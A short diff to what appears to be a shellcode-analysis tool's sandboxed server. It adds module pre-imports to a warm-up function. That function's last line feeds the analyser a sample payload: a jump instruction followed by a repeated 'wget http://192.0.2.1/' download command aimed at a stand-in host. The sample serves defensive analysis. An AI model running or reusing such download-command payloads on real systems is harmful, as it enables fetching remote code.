@@ -21,10 +21,12 @@ import sys
 import threading
 import time
 from collections.abc import Callable
+from importlib import import_module
 from pathlib import Path
 from typing import Any
 
 from eudaemon.payload.shellcode.examine import CODE_BYTES_MAX, examine
+from eudaemon.world import windows
 from eudaemon.world.host import Host
 from eudaemon.world.seed import Seed
 
@@ -208,6 +210,8 @@ def _serve(asked: socket.socket, confine: Callable[[], object]) -> None:
 
 def _warm() -> None:
     """Import all that an examination may need: afterwards its files may be out of reach."""
+    for module in (*windows.ENGINE, *windows.CODECS):
+        import_module(module)
     for code, architecture in _WARMING:
         examine(code, _host(), architectures=(architecture,), listing=True)
     examine(b"\xeb\xfe" + b"wget http://192.0.2.1/" * 8, _host())
